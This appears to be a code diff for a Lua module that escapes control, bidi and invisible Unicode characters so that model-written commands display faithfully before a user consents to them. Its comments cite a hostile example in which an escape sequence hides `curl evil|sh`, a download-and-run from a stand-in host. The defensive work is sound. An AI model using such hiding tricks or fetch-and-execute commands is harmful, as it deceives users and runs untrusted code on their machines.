@@ -18,29 +18,121 @@ end
 
 -- Model-written text made safe to show, by the rules of the server's tooling/display.py:
 -- ESC -> \e, CR -> \r, a newline -> ⏎ (unless kept), other C0/DEL/C1 controls -> \xNN,
--- bidi and invisible formatting characters -> \uXXXX; tabs stay. An escape sequence in a
--- command must not hide part of it (`git fetch #<ESC>[8m<newline>curl evil|sh`). Escaping
--- twice changes nothing. The text is UTF-8: C1 and the \u ones are two or three bytes.
+-- bidi, invisible and format characters -> \uXXXX (\u{XXXXX} beyond U+FFFF); tabs stay.
+-- An escape sequence in a command must not hide part of it
+-- (`git fetch #<ESC>[8m<newline>curl evil|sh`). Escaping twice changes nothing. The text
+-- is UTF-8: each multi-byte character is decoded and looked up in the ranges below.
 local NAMED = { ['\27'] = '\\e', ['\r'] = '\\r', ['\n'] = NEWLINE_MARK }
+
+-- tooling/display.py _INVISIBLE_RANGES: every format character (Cf), U+2028/2029, lone
+-- surrogates, the Hangul fillers, the tag characters.
+local INVISIBLE = {
+  { 0x00AD, 0x00AD }, { 0x0600, 0x0605 }, { 0x061C, 0x061C }, { 0x06DD, 0x06DD },
+  { 0x070F, 0x070F }, { 0x0890, 0x0891 }, { 0x08E2, 0x08E2 }, { 0x115F, 0x1160 },
+  { 0x180E, 0x180E }, { 0x200B, 0x200F }, { 0x2028, 0x202E }, { 0x2060, 0x2064 },
+  { 0x2066, 0x206F }, { 0x3164, 0x3164 }, { 0xD800, 0xDFFF }, { 0xFEFF, 0xFEFF },
+  { 0xFFA0, 0xFFA0 }, { 0xFFF9, 0xFFFB }, { 0x110BD, 0x110BD }, { 0x110CD, 0x110CD },
+  { 0x13430, 0x1343F }, { 0x1BCA0, 0x1BCA3 }, { 0x1D173, 0x1D17A }, { 0xE0000, 0xE007F },
+}
+-- Only in what the user consents to (_CONSENT_RANGES): private use, variation selectors.
+local CONSENT_ONLY = {
+  { 0xE000, 0xF8FF }, { 0xFE00, 0xFE0F }, { 0xE0100, 0xE01EF }, { 0xF0000, 0x10FFFF },
+}
+M.CONSENT_BLANK_RUN = 3
 
 local function hex(byte)
   return string.format('\\x%02x', byte:byte())
 end
 
-function M.escape_control(text, keep_newlines)
+local function within(ranges, code)
+  for _, range in ipairs(ranges) do
+    if code >= range[1] and code <= range[2] then
+      return true
+    end
+  end
+  return false
+end
+
+local function decode(char)
+  local first, n = char:byte(1), #char
+  local code = n == 2 and first - 0xC0 or n == 3 and first - 0xE0 or first - 0xF0
+  for i = 2, n do
+    code = code * 64 + (char:byte(i) - 0x80)
+  end
+  return code
+end
+
+local function escape(text, keep_newlines, consent)
   local controls = keep_newlines and '[%z\1-\8\11-\31\127]' or '[%z\1-\8\10-\31\127]'
   text = text:gsub(controls, function(char)
     return NAMED[char] or hex(char)
   end)
   text = text:gsub('\194([\128-\159])', hex) -- U+0080-U+009F
-  text = text:gsub('\216\156', '\\u061c')
-  text = text:gsub('\226\128([\139-\143\170-\174])', function(byte) -- U+200B-F, U+202A-E
-    return string.format('\\u20%02x', byte:byte() - 0x80)
-  end)
-  text = text:gsub('\226\129([\160-\164\166-\169])', function(byte) -- U+2060-4, U+2066-9
-    return string.format('\\u20%02x', byte:byte() - 0x40)
-  end)
-  return (text:gsub('\239\187\191', '\\ufeff'))
+  return (text:gsub('[\194-\244][\128-\191]+', function(char)
+    local code = decode(char)
+    if within(INVISIBLE, code) or (consent and within(CONSENT_ONLY, code)) then
+      return code <= 0xFFFF and string.format('\\u%04x', code) or string.format('\\u{%x}', code)
+    end
+  end))
+end
+
+function M.escape_control(text, keep_newlines)
+  return escape(text, keep_newlines, false)
+end
+
+-- Blank characters whose runs escape_consent marks: space, tab, and in UTF-8 U+00A0,
+-- U+1680, U+2000-200A, U+202F, U+205F, U+3000.
+local BLANK = '[ \t]'
+local WIDE_BLANKS = { ['\194\160'] = true, ['\225\154\128'] = true, ['\226\128\175'] = true,
+  ['\226\129\159'] = true, ['\227\128\128'] = true }
+for byte = 0x80, 0x8A do
+  WIDE_BLANKS['\226\128' .. string.char(byte)] = true
+end
+
+--- What the user is asked to allow (tooling/display.py escape_consent): escape_control,
+--- private-use characters and variation selectors spelled out too, and each run of more
+--- than CONSENT_BLANK_RUN blanks shown as "␣×N".
+function M.escape_consent(text, keep_newlines)
+  text = escape(text, keep_newlines, true)
+  local out, run, i, n = {}, 0, 1, #text
+  local function flush()
+    if run > M.CONSENT_BLANK_RUN then
+      table.insert(out, '␣×' .. run)
+    else
+      table.insert(out, table.concat(out.pending or {}))
+    end
+    out.pending, run = nil, 0
+  end
+  while i <= n do
+    local one = text:sub(i, i)
+    local width = 1
+    if not one:match(BLANK) then
+      local three, two = text:sub(i, i + 2), text:sub(i, i + 1)
+      if WIDE_BLANKS[three] then
+        one, width = three, 3
+      elseif WIDE_BLANKS[two] then
+        one, width = two, 2
+      else
+        one = nil
+      end
+    end
+    if one then
+      out.pending = out.pending or {}
+      table.insert(out.pending, one)
+      run = run + 1
+    else
+      if run > 0 then
+        flush()
+      end
+      table.insert(out, text:sub(i, i))
+    end
+    i = i + width
+  end
+  if run > 0 then
+    flush()
+  end
+  out.pending = nil
+  return table.concat(out)
 end
 
 --- One line, escaped: line breaks as " ⏎ " (so `git fetch #` then `curl ... | sh` on the
